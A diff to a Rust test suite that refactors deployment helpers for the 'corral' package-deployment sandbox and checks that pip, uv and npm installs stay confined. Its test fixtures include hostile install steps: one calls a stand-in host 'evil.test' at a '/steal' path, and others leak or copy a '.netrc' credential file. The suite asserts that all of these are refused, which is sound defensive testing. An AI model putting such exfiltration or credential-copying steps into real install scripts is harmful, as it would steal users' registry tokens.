@@ -171,20 +171,23 @@ fn deploy_env(
     extra: &[&str],
     env: &[(&str, &str)],
 ) -> serde_json::Value {
+    let mut args = vec![source.to_str().unwrap(), "--out", out.to_str().unwrap()];
+    args.extend(extra);
+    deploy_args(reg, &args, env)
+}
+
+/// `corral deploy --json --timeout 120 ARGS` with the registry's flags
+/// (and `--allow-unenforced-limits` when unprivileged): its JSON answer,
+/// with its stderr under `"stderr"`.
+fn deploy_args(reg: Option<&Registry>, args: &[&str], env: &[(&str, &str)]) -> serde_json::Value {
     let mut c = corral();
-    c.arg("deploy")
-        .arg("--json")
-        .arg(source)
-        .arg("--out")
-        .arg(out)
-        .args(["--timeout", "120"]);
+    c.args(["deploy", "--json", "--timeout", "120"]).args(args);
     if let Some(r) = reg {
         c.args(r.flags());
     }
     if !is_root() {
         c.arg("--allow-unenforced-limits");
     }
-    c.args(extra);
     for (k, v) in env {
         c.env(k, v);
     }
@@ -610,21 +613,24 @@ fn a_hostile_install_cannot_reach_a_domain_not_allowed() {
         Some(&format!("network http://evil.test:{}/steal", reg.port)),
     );
     let out = base.path().join("tree");
-    let v = deploy(Some(&reg), &src, &out, &[]);
-    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
-    let msg = v["error"]["message"].as_str().unwrap();
-    assert!(
-        msg.contains("the proxy refused") && msg.contains("evil.test"),
-        "{msg}"
-    );
-    let denied = events_of(&v, "net.denied");
-    assert!(
-        denied.iter().any(|e| e["fields"]["domain"] == "evil.test"
-            && e["fields"]["reason"] == "net.denied.not_allowed"),
-        "{denied:?}"
-    );
-    assert!(!reg.requests().contains("steal"), "{}", reg.requests());
-    assert_nothing_left(&out);
+    // pip, then uv: the same confinement.
+    for installer in [&[][..], &["--uv", uv()][..]] {
+        let v = deploy(Some(&reg), &src, &out, installer);
+        assert_eq!(v["error"]["code"], "deploy.phase", "{installer:?}: {v}");
+        let msg = v["error"]["message"].as_str().unwrap();
+        assert!(
+            msg.contains("the proxy refused") && msg.contains("evil.test"),
+            "{msg}"
+        );
+        let denied = events_of(&v, "net.denied");
+        assert!(
+            denied.iter().any(|e| e["fields"]["domain"] == "evil.test"
+                && e["fields"]["reason"] == "net.denied.not_allowed"),
+            "{denied:?}"
+        );
+        assert!(!reg.requests().contains("steal"), "{}", reg.requests());
+        assert_nothing_left(&out);
+    }
 }
 
 #[test]
@@ -1209,17 +1215,11 @@ fn a_server_deployed_from_its_config_entry_is_supervised_and_answers_through_the
     );
     drop(early);
     // `corral deploy --config F --server dep` installs its source into its dir.
-    let mut c = corral();
-    c.args(["deploy", "--json", "--timeout", "120", "--config"])
-        .arg(&cfg)
-        .args(["--server", "dep"])
-        .args(reg.flags());
-    if !is_root() {
-        c.arg("--allow-unenforced-limits");
-    }
-    let out = c.output().unwrap();
-    let v: serde_json::Value = serde_json::from_slice(&out.stdout)
-        .unwrap_or_else(|e| panic!("{e}: {} {}", text(&out.stdout), text(&out.stderr)));
+    let v = deploy_args(
+        Some(&reg),
+        &["--config", cfg.to_str().unwrap(), "--server", "dep"],
+        &[],
+    );
     let manifest = ok(&v);
     assert_eq!(manifest["entry"]["path"], "server.py", "{manifest}");
     assert!(tree.join("corral-manifest.json").is_file());
@@ -1265,26 +1265,11 @@ fn package_registry_with(extra: serde_json::Value) -> Registry {
 
 /// `corral deploy --json --package SPEC --out OUT` with the registry's flags.
 fn deploy_package(reg: &Registry, spec: &str, out: &Path) -> serde_json::Value {
-    let mut c = corral();
-    c.args([
-        "deploy",
-        "--json",
-        "--timeout",
-        "120",
-        "--package",
-        spec,
-        "--out",
-    ])
-    .arg(out)
-    .args(reg.flags());
-    if !is_root() {
-        c.arg("--allow-unenforced-limits");
-    }
-    let o = c.output().unwrap();
-    let v: serde_json::Value = serde_json::from_slice(&o.stdout)
-        .unwrap_or_else(|e| panic!("{e}: {} {}", text(&o.stdout), text(&o.stderr)));
-    assert_eq!(o.status.success(), v["ok"] == true, "{v}");
-    v
+    deploy_args(
+        Some(reg),
+        &["--package", spec, "--out", out.to_str().unwrap()],
+        &[],
+    )
 }
 
 #[test]
@@ -1340,18 +1325,11 @@ fn a_pypi_package_deployed_from_its_config_entry_answers_through_the_bridge() {
     let cfg_dir = tempfile::tempdir().unwrap();
     let cfg = serve_config(cfg_dir.path(), &extra);
     let deploy_server = || {
-        let mut c = corral();
-        c.args(["deploy", "--json", "--timeout", "120", "--config"])
-            .arg(&cfg)
-            .args(["--server", "tool"])
-            .args(reg.flags());
-        if !is_root() {
-            c.arg("--allow-unenforced-limits");
-        }
-        let out = c.output().unwrap();
-        let v: serde_json::Value = serde_json::from_slice(&out.stdout)
-            .unwrap_or_else(|e| panic!("{e}: {} {}", text(&out.stdout), text(&out.stderr)));
-        v
+        deploy_args(
+            Some(&reg),
+            &["--config", cfg.to_str().unwrap(), "--server", "tool"],
+            &[],
+        )
     };
     let v = deploy_server();
     let m = ok(&v);
@@ -1499,40 +1477,27 @@ fn uv_installs_a_package_project_through_the_proxy_from_the_named_index_only() {
     assert_eq!(again["noop"], true, "{again}");
 }
 
+/// uv's confinement is tested with pip's in
+/// `a_hostile_install_cannot_reach_a_domain_not_allowed`.
 #[test]
-fn uv_is_confined_like_pip_and_installs_packages_by_name() {
+fn uv_installs_packages_by_name_and_only_when_the_profile_allows_it() {
     let reg = package_registry();
     let base = Base::new();
-    // A build backend that dials a domain not allowed: refused by the
-    // proxy, the deployment fails.
-    let src = package_source(
-        &base,
-        "src",
-        Some(&format!("network http://evil.test:{}/steal", reg.port)),
-    );
+    let src = package_source(&base, "src", None);
     let out = base.path().join("tree");
-    let v = deploy(Some(&reg), &src, &out, &["--uv", uv()]);
-    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
-    assert!(
-        events_of(&v, "net.denied")
-            .iter()
-            .any(|e| e["fields"]["domain"] == "evil.test"),
-        "{v}"
-    );
-    assert!(!reg.requests().contains("steal"));
-    assert_nothing_left(&out);
     // A PyPI package through uv: uv venv, uv pip install.
-    let mut c = corral();
-    c.args(["deploy", "--json", "--timeout", "120", "--uv", uv()])
-        .args(["--package", "pypi:corral-mcp-tool==1.0", "--out"])
-        .arg(&out)
-        .args(reg.flags());
-    if !is_root() {
-        c.arg("--allow-unenforced-limits");
-    }
-    let o = c.output().unwrap();
-    let v: serde_json::Value = serde_json::from_slice(&o.stdout)
-        .unwrap_or_else(|e| panic!("{e}: {} {}", text(&o.stdout), text(&o.stderr)));
+    let v = deploy_args(
+        Some(&reg),
+        &[
+            "--uv",
+            uv(),
+            "--package",
+            "pypi:corral-mcp-tool==1.0",
+            "--out",
+            out.to_str().unwrap(),
+        ],
+        &[],
+    );
     let m = ok(&v);
     let script = m["phases"][0]["argv"][2].as_str().unwrap();
     assert!(script.contains(&format!("{UV} pip install")), "{script}");
@@ -1655,6 +1620,16 @@ fn registry_tokens_reach_the_install_phase_only_and_never_the_tree_logs_or_event
     )
     .unwrap();
     let cfg_flag = ["--config", cfg.to_str().unwrap()];
+    // A deployment of `src` to `out` with the token in corral's environment.
+    let with_token = |src: &Path, out: &Path, flags: &[&str]| {
+        deploy_env(
+            Some(&reg),
+            src,
+            out,
+            flags,
+            &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)],
+        )
+    };
     // The variable unset: refused up front, naming it.
     let out = base.path().join("tree");
     let src = package_source(&base, "src", Some("leak /workspace/.netrc"));
@@ -1673,13 +1648,7 @@ fn registry_tokens_reach_the_install_phase_only_and_never_the_tree_logs_or_event
     let events = base.path().join("events.jsonl");
     let mut flags = cfg_flag.to_vec();
     flags.extend(["--events", events.to_str().unwrap()]);
-    let failed = deploy_env(
-        Some(&reg),
-        &src,
-        &out,
-        &flags,
-        &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)],
-    );
+    let failed = with_token(&src, &out, &flags);
     assert_eq!(failed["error"]["code"], "deploy.phase", "{failed}");
     let msg = failed["error"]["message"].as_str().unwrap();
     assert!(
@@ -1690,13 +1659,7 @@ fn registry_tokens_reach_the_install_phase_only_and_never_the_tree_logs_or_event
     assert_nothing_left(&out);
     // The install phase authenticates (pip through .netrc).
     std::fs::remove_file(src.join("attack")).unwrap();
-    let v = deploy_env(
-        Some(&reg),
-        &src,
-        &out,
-        &flags,
-        &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)],
-    );
+    let v = with_token(&src, &out, &flags);
     ok(&v);
     assert!(
         reg.requests().contains("AUTH /simple/corral-dep/"),
@@ -1705,25 +1668,14 @@ fn registry_tokens_reach_the_install_phase_only_and_never_the_tree_logs_or_event
     );
     // npm, through .npmrc's _authToken.
     let npm_out = base.path().join("npm-tree");
-    let mut c = corral();
-    c.args([
-        "deploy",
-        "--json",
-        "--timeout",
-        "120",
+    let mut args = cfg_flag.to_vec();
+    args.extend([
         "--package",
         "npm:@corral/hello@1.2.3",
-    ])
-    .args(cfg_flag)
-    .arg("--out")
-    .arg(&npm_out)
-    .args(reg.flags())
-    .env("CORRAL_TEST_REGISTRY_TOKEN", TOKEN);
-    if !is_root() {
-        c.arg("--allow-unenforced-limits");
-    }
-    let o = c.output().unwrap();
-    let npm_v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+        "--out",
+        npm_out.to_str().unwrap(),
+    ]);
+    let npm_v = deploy_args(Some(&reg), &args, &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)]);
     ok(&npm_v);
     assert!(reg
         .requests()
@@ -1737,17 +1689,10 @@ fn registry_tokens_reach_the_install_phase_only_and_never_the_tree_logs_or_event
     }
     assert!(!holds(&std::fs::read(&events).unwrap(), TOKEN));
     assert!(!v.to_string().contains(TOKEN) && !npm_v.to_string().contains(TOKEN));
-    assert!(!text(&o.stderr).contains(TOKEN));
     // A phase that copies the token into the tree: refused, nothing left.
     std::fs::write(src.join("attack"), "copy /workspace/.netrc leak.txt").unwrap();
     let out2 = base.path().join("tree2");
-    let v = deploy_env(
-        Some(&reg),
-        &src,
-        &out2,
-        &cfg_flag,
-        &[("CORRAL_TEST_REGISTRY_TOKEN", TOKEN)],
-    );
+    let v = with_token(&src, &out2, &cfg_flag);
     assert_eq!(v["error"]["code"], "deploy.credential", "{v}");
     assert!(
         v["error"]["message"].as_str().unwrap().contains("leak.txt"),
@@ -1869,25 +1814,14 @@ fn a_ca_bundle_lets_the_install_phase_trust_a_registry_with_a_private_ca() {
         &with_uv,
     ));
     let npm_out = base.path().join("npm-tree");
-    let mut c = corral();
-    c.args([
-        "deploy",
-        "--json",
-        "--timeout",
-        "120",
+    let mut args = ca_flag.to_vec();
+    args.extend([
         "--package",
         "npm:@corral/hello@1.2.3",
-    ])
-    .args(ca_flag)
-    .arg("--out")
-    .arg(&npm_out)
-    .args(reg.flags());
-    if !is_root() {
-        c.arg("--allow-unenforced-limits");
-    }
-    let o = c.output().unwrap();
-    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
-    ok(&v);
+        "--out",
+        npm_out.to_str().unwrap(),
+    ]);
+    ok(&deploy_args(Some(&reg), &args, &[]));
     assert!(reg
         .requests()
         .contains("/npm/@corral/hello/-/hello-1.2.3.tgz"));
